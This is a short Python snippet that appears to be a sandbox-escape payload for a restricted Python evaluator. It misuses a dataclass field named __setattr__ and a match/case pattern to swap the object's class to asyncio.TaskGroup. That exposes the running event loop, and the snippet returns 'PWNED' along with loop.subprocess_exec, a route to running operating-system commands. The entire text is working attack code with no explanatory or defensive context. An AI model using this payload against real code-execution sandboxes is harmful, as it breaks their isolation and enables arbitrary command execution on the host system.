import asyncio
import dataclasses
from typing import Any


@dataclasses.dataclass(init=False)
class Duck:
    __setattr__: Any

    async def go(self):
        self._entered = False
        self._loop = None
        match self:
            case Duck(raw):
                raw("__class__", asyncio.TaskGroup)
        await self.__aenter__()
        return self._loop


loop = asyncio.run(Duck().go())
return "PWNED " + repr(loop.subprocess_exec)
